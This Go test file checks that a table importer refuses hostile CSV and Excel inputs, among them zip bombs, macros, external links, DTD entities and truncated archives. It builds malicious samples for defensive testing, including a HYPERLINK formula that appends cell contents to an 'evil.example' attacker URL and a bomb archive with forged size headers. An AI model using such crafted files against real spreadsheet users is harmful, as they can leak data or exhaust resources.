package table

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"runtime"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"lodestar/internal/base/fault"
)

func file(b []byte) File { return File{bytes.NewReader(b), int64(len(b))} }

// part is one entry of a hand-made package.
type entry struct{ name, data string }

const (
	contentTypes = `<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`
	workbookXML  = `<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Cases" sheetId="1" r:id="rId1"/></sheets></workbook>`
	workbookRels = `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet7.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`
)

// book zips a package around a sheet and its shared texts; further entries
// replace or add.
func workbook(sheet, texts string, more ...entry) []byte {
	entries := []entry{{"[Content_Types].xml", contentTypes}, {workbookPart, workbookXML}, {"xl/_rels/workbook.xml.rels", workbookRels},
		{"xl/worksheets/sheet7.xml", sheet}, {"xl/sharedStrings.xml", texts}}
next:
	for _, m := range more {
		for i := range entries {
			if entries[i].name == m.name {
				entries[i] = m
				continue next
			}
		}
		entries = append(entries, m)
	}
	return zipped(entries)
}

func zipped(entries []entry) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, e := range entries {
		f, err := w.Create(e.name)
		if err == nil {
			_, err = io.WriteString(f, e.data)
		}
		if err != nil {
			panic(err)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func sst(texts string) string {
	return `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` + texts + `</sst>`
}

func sheet(rows string) string {
	return `<worksheet><sheetData>` + rows + `</sheetData></worksheet>`
}

// readAll opens and reads a table to its end; the error is of either.
func readAll(b []byte) (t *Table, rows []Row, err error) {
	t, err = Open(file(b), "")
	if err != nil {
		return nil, nil, err
	}
	for row, err := range t.Rows(context.Background()) {
		if err != nil {
			return t, rows, err
		}
		rows = append(rows, row)
	}
	return t, rows, nil
}

func utf16le(s string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteByte(byte(r))
		b.WriteByte(byte(r >> 8))
	}
	return b.String()
}

func TestHostileTextIsRefused(t *testing.T) {
	for name, c := range map[string]struct{ in, key string }{
		"nothing":                       {"", "import.empty_file"},
		"blank lines":                   {"\r\n\n  \n", "import.empty_file"},
		"only a byte order mark":        {"\xEF\xBB\xBF", "import.empty_file"},
		"only delimiters":               {",,,\n,,\n", "import.empty_file"},
		"Windows-1252":                  {"name;town\nJos\xE9;K\xF6ln\n", "import.encoding"},
		"Windows-1252, late":            {"name,town\n" + strings.Repeat("Ana,Bern\n", 3000) + "Jos\xE9,K\xF6ln\n", "import.encoding"},
		"UTF-16 without its mark":       {utf16le("name,town\nAna,Bern\n"), "import.encoding"},
		"UTF-32":                        {"\xFF\xFE\x00\x00n\x00\x00\x00", "import.encoding"},
		"a NUL in the header":           {"name\x00,town\nAna,Bern\n", "import.unknown_format"},
		"a PDF":                         {"%PDF-1.7\n1 0 obj\n", "import.unknown_format"},
		"a web page":                    {"<!doctype html><table><tr><td>name", "import.markup"},
		"a spreadsheet of 2003 in XML":  {"\xEF\xBB\xBF<?xml version=\"1.0\"?><Workbook/>", "import.markup"},
		"a JSON list":                   {" [{\"a\":1}]", "import.not_lines"},
		"JSON Lines are no table":       {`{"ref":"1"}`, "import.unknown_format"},
		"an old or encrypted workbook":  {"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1rest", "import.old_excel"},
		"lines ended by CR alone":       {"name,town\rAna,Bern\r", "import.bad_header"},
		"a control character in header": {"name,to\x07wn\nAna,Bern\n", "import.bad_header"},
		"lost letters in the header":    {"name,Stra\uFFFDe\nAna,Bern\n", "import.bad_header"},
		"an open quote":                 {"name,town\nAna,\"Bern\nBea,Basel\n", "import.open_quote"},
		"an open quote in the header":   {"name,\"town\nAna,Bern\n", "import.open_quote"},
		"a cell of 10 MB":               {"name,town\nAna," + strings.Repeat("x", 10<<20) + "\n", "import.record_too_long"},
		"a quoted cell of 10 MB":        {"name,town\nAna,\"" + strings.Repeat("x\n", 5<<20) + "\"\n", "import.record_too_long"},
		"a million columns":             {"name" + strings.Repeat(",", 1_000_000) + "\n", "import.too_many_columns"},
		"more columns than are read":    {"name,town\n" + strings.Repeat("a,", MaxColumns) + "a\n", "import.too_many_columns"},
	} {
		t.Run(name, func(t *testing.T) { refused(t, []byte(c.in), c.key) })
	}
}

func refused(t *testing.T, in []byte, key string) {
	t.Helper()
	_, _, err := readAll(in)
	var f *fault.Error
	if !errors.As(err, &f) || f.Kind != fault.Invalid || f.Key != key {
		t.Fatalf("got %v, want %s", err, key)
	}
	if strings.Contains(err.Error(), "Ana") {
		t.Errorf("the fault tells what stood in the file: %v", err)
	}
}

func TestHostileWorkbooksAreRefused(t *testing.T) {
	const head = `<row r="1"><c r="A1" t="str"><v>name</v></c><c r="B1" t="str"><v>town</v></c></row>`
	row := func(s string) string { return sheet(head + s) }
	type c struct {
		in  []byte
		key string
	}
	whole := workbook(row(`<row r="2"><c r="A2" t="str"><v>Ana</v></c></row>`), sst(""))
	var formulas strings.Builder
	for i := range MaxMarked + 1 {
		fmt.Fprintf(&formulas, `<row><c><f>%d</f></c></row>`, i*i)
	}
	cases := map[string]c{
		"cut off":                {whole[:len(whole)/2], "import.truncated"},
		"cut off at the end":     {whole[:len(whole)-4], "import.truncated"},
		"a directory only":       {zipped(nil), "import.not_workbook"},
		"another kind of ZIP":    {zipped([]entry{{"mimetype", "application/vnd.oasis.opendocument.spreadsheet"}}), "import.not_workbook"},
		"no workbook part":       {zipped([]entry{{"[Content_Types].xml", contentTypes}}), "import.not_workbook"},
		"no sheet":               {workbook("", "", entry{workbookPart, "<workbook/>"}), "import.no_sheet"},
		"a hidden sheet only":    {workbook(row(""), "", entry{workbookPart, strings.Replace(workbookXML, `sheetId`, `state="veryHidden" sheetId`, 1)}), "import.no_sheet"},
		"a part twice":           {zipped([]entry{{"a.xml", ""}, {`A.XML`, ""}}), "import.malformed"},
		"too many parts":         {zipped(make([]entry, MaxParts+1)), "import.bomb"},
		"a bomb":                 {workbook(row("")+strings.Repeat(" ", 16<<20), ""), "import.bomb"},
		"a bomb nobody reads":    {workbook(row(""), "", entry{"xl/media/image1.png", strings.Repeat("\x00", 16<<20)}), "import.bomb"},
		"macros":                 {workbook(row(""), "", entry{"xl/vbaProject.bin", "x"}), "import.macros"},
		"macros by type":         {workbook(row(""), "", entry{"[Content_Types].xml", strings.Replace(contentTypes, "openxmlformats-officedocument.spreadsheetml.sheet", "ms-excel.sheet.macroEnabled", 1)}), "import.macros"},
		"a macro sheet":          {workbook(row(""), "", entry{`xl\macrosheets\sheet1.xml`, "x"}), "import.macros"},
		"an embedded object":     {workbook(row(""), "", entry{"xl/embeddings/oleObject1.bin", "x"}), "import.macros"},
		"another workbook":       {workbook(row(""), "", entry{"xl/externalLinks/externalLink1.xml", "<x/>"}), "import.external_link"},
		"a data connection":      {workbook(row(""), "", entry{"xl/connections.xml", "<x/>"}), "import.external_link"},
		"an external template":   {workbook(row(""), "", entry{"xl/worksheets/_rels/sheet7.xml.rels", `<Relationships><Relationship Id="a" Type="x/oleObject" Target="http://x" TargetMode="External"/></Relationships>`}), "import.external_link"},
		"rels that are no XML":   {workbook(row(""), "", entry{"xl/_rels/workbook.xml.rels", "<Relationships>"}), "import.malformed"},
		"an empty sheet":         {workbook(sheet(""), ""), "import.empty_file"},
		"a sheet that breaks":    {workbook(`<worksheet><sheetData>`+head+`<row r="2"><c r="A2" t="str"><v>Ana`, ""), "import.malformed"},
		"broken after its rows":  {workbook(row("")+"<", ""), "import.malformed"},
		"a document type":        {workbook(`<!DOCTYPE x [<!ENTITY a "b">]>`+row(""), ""), "import.malformed"},
		"an entity":              {workbook(row(`<row r="2"><c r="A2" t="str"><v>&a;</v></c></row>`), ""), "import.malformed"},
		"texts that break":       {workbook(row(""), "<sst><si><t>Ana"), "import.malformed"},
		"a text that is missing": {workbook(row(`<row r="2"><c r="A2" t="s"><v>1</v></c></row>`), sst("<si><t>Ana</t></si>")), "import.malformed"},
		"rows out of order":      {workbook(row(`<row r="3"/><row r="2"/>`), ""), "import.malformed"},
		"a row twice":            {workbook(row(`<row r="1"><c r="A1"><v>1</v></c></row>`), ""), "import.malformed"},
		"a row without number":   {workbook(row(`<row r="two"/>`), ""), "import.malformed"},
		"cells out of order":     {workbook(row(`<row r="2"><c r="B2"><v>1</v></c><c r="A2"><v>1</v></c></row>`), ""), "import.malformed"},
		"a cell of another row":  {workbook(row(`<row r="2"><c r="A3"><v>1</v></c></row>`), ""), "import.malformed"},
		"a style that hides":     {workbook(row(`<row r="2"><c r="A2" s="x"><v>1</v></c></row>`), ""), "import.malformed"},
		"two tables":             {workbook(`<worksheet><sheetData>`+head+`</sheetData><sheetData/></worksheet>`, ""), "import.malformed"},
		"a row before its table": {workbook(`<worksheet><row r="1"/><sheetData>`+head+`</sheetData></worksheet>`, ""), "import.malformed"},
		"a far row":              {workbook(row(`<row r="1048570"><c><v>1</v></c></row>`), ""), "import.too_many_rows"},
		"a row beyond the sheet": {workbook(row(`<row r="1048577"/>`), ""), "import.malformed"},
		"a far column":           {workbook(row(`<row r="2"><c r="XFD2"><v>1</v></c></row>`), ""), "import.too_many_columns"},
		"a merged header":        {workbook(`<worksheet><sheetData>`+head+`</sheetData><mergeCells><mergeCell ref="A1:B1"/></mergeCells></worksheet>`, ""), "import.bad_header"},
		"a header by formula":    {workbook(sheet(`<row r="1"><c r="A1" t="str"><f>A2</f><v>name</v></c></row>`), ""), "import.bad_header"},
		"endless merged areas":   {workbook(`<worksheet><sheetData>`+head+`</sheetData>`+strings.Repeat(`<mergeCell ref="A1"/>`, MaxMerged+1)+`</worksheet>`, ""), "import.too_many_merged"},
		"nothing but formulas":   {workbook(row(formulas.String()), ""), "import.formulas"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) { refused(t, c.in, c.key) })
	}
	flipped := bytes.Clone(whole)
	at := bytes.Index(flipped, []byte("sheet7.xml")) + len("sheet7.xml") + 12
	flipped[at] ^= 0x55
	t.Run("a changed byte", func(t *testing.T) { refused(t, flipped, "import.malformed") })
	if _, err := Open(File{bytes.NewReader(whole), MaxWorkbook + 1}, ""); !fault.Is(err, fault.Invalid) {
		t.Errorf("a workbook above the bound: %v", err)
	}
	if _, err := Open(file(whole), "Other"); !fault.Is(err, fault.Invalid) {
		t.Errorf("a sheet that is not there: %v", err)
	}
}

// What a bomb declares, and what it would unpack to, must not be allocated.
func TestBombsTakeLittleMemory(t *testing.T) {
	bomb := workbook(sheet(`<row r="1"><c t="str"><v>name</v></c></row>`), strings.Repeat("<si/>", 12<<20))
	quote := []byte("name\n\"" + strings.Repeat("x\n", 16<<20))
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	refused(t, bomb, "import.bomb")
	refused(t, quote, "import.record_too_long")
	runtime.ReadMemStats(&after)
	if spent := after.TotalAlloc - before.TotalAlloc; spent > 8<<20 {
		t.Errorf("%d MiB were allocated on the way to a refusal", spent>>20)
	}
}

// A workbook written by the library itself, with things that people do.
func TestMarkedCells(t *testing.T) {
	x := excelize.NewFile()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	for i, row := range [][]any{{"name", "town", "n"}, {"Ana", "Bern", 1}, {"Bea", "Basel", 2}, {"Cem", "Genf", 3}, {"\u0007Dia", "Bern"}, {"Eva", "Bern", 5, "beyond"}, {"Fay\uFFFD", strings.Repeat("x", 100)}} {
		must(x.SetSheetRow("Sheet1", fmt.Sprintf("A%d", i+1), &row))
	}
	must(x.SetCellFormula("Sheet1", "B2", `HYPERLINK("http://evil.example/"&A2)`))
	must(x.MergeCell("Sheet1", "A3", "B4"))
	must(x.SetCellHyperLink("Sheet1", "A2", "https://example.org", "External"))
	var b bytes.Buffer
	must(x.Write(&b))
	_, rows, err := readAll(b.Bytes())
	must(err)
	got := make([]string, len(rows))
	for i, r := range rows {
		got[i] = fmt.Sprint(r.Number, " ", r.Faults)
	}
	want := []string{"2 [{2 import.formula}]", "3 [{1 import.merged} {2 import.merged}]", "4 [{1 import.merged} {2 import.merged}]",
		"5 [{1 import.damaged_text}]", "6 [{0 import.ragged}]", "7 [{1 import.damaged_text}]"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("got  %v\nwant %v", got, want)
	}
}

func TestMarkedErrorsAndLongCells(t *testing.T) {
	head := `<row><c t="str"><v>a</v></c><c t="str"><v>b</v></c></row>`
	_, rows, err := readAll(workbook(sheet(head+
		`<row><c t="e"><v>#REF!</v></c></row>`+
		`<row><c><v>1</v></c><c t="str"><v>`+strings.Repeat("yz", MaxCell/2+1)+`</v></c></row>`+
		`<row><c t="inlineStr"><is><r><rPr><b val="maybe"/></rPr><t>lost</t></r></is></c><c><v>1</v></c></row>`), sst("")))
	if err != nil {
		t.Fatal(err)
	}
	got := ""
	for _, r := range rows {
		got += fmt.Sprint(r.Number, r.Faults, " ")
	}
	if got != "2 [{1 import.error_cell}] 3 [{2 import.cell_too_long}] 4 [{0 import.unreadable_cell}] " {
		t.Error(got)
	}
}

// Parts that are each within bounds, and together are not.
func TestPartsAreBoundedTogether(t *testing.T) {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := range 3 {
		part, err := w.CreateRaw(&zip.FileHeader{Name: fmt.Sprint("xl/media/", i), Method: zip.Deflate, CompressedSize64: 1 << 20, UncompressedSize64: 100 << 20})
		if err == nil {
			_, err = part.Write(make([]byte, 1<<20))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	refused(t, b.Bytes(), "import.bomb")
}
